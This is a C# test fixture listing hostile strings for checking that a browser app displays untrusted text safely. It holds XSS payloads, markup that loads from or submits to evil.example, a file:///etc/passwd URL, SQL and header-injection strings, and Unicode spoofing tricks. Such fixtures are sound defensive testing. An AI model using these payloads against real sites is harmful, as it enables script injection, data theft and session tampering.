namespace Incidents.Browser.Tests;

/// <summary>Texts that want to be more than text. Each tells of itself, where it succeeds: by a dialog, a script, a request elsewhere, or by breaking the page.</summary>
public static class HostileTexts
{
    public static readonly IReadOnlyList<string> All =
    [
        // Markup
        "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<script>document.title='owned'</script>", "<img src=x onerror=alert(1)>", "<img src=http://evil.example/p.png>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=http://evil.example/x.css>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<base href=http://evil.example/>",
        "<form action=http://evil.example/><button>Acknowledge</button></form>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>", "<style>*{display:none}</style>", "<style>@import 'http://evil.example/x.css';</style>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a href=javascript:alert(1)>click</a>", "<a href=http://evil.example/ ping=http://evil.example/>click</a>", "<dialog open>You are signed out</dialog>",
        // Out of where it is put
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</main></body></html><script>alert(1)</script>", "</option></select><script>alert(1)</script>", "`${alert(1)}`", "{{constructor.constructor('alert(1)')()}}", "@(1+1) @{throw;}",
        // Addresses that do something
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x", "\\\\evil.example\\x",
        "http://good.example@evil.example/", "https://evil.example/?a=b&c=d", "file:///etc/passwd",
        // Markdown and other readers
        "[click](javascript:alert(1))", "![x](http://evil.example/p.png)", "<http://evil.example>", "# heading\n\n> quote", "| a | b |\n|---|---|", "=HYPERLINK(\"http://evil.example\")", "\u001b[2J\u001b[31mred",
        // Writing that turns, hides or grows
        "safe\u202Efdp.exe", "\u2066hidden\u2069", "\u202Dleft\u202C", "\u200Bzero\u200Bwidth\u200B", "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "Z\u0351\u034F\u0321a\u0316\u0353l\u034Dg\u031Eo", "\uFEFFbom", "مرحبا بالعالم", "𝕊𝕖𝕧𝕖𝕣𝕖 🔥🔥🔥",
        "\uFFFE\uFFFF", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;&quot;&#39;&nbsp;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "' OR 1=1 --", "x\r\nSet-Cookie: a=b",
        new('W', 900), string.Concat(Enumerable.Repeat("wide ", 190)), string.Concat(Enumerable.Repeat("<b>", 300)),
    ];
}
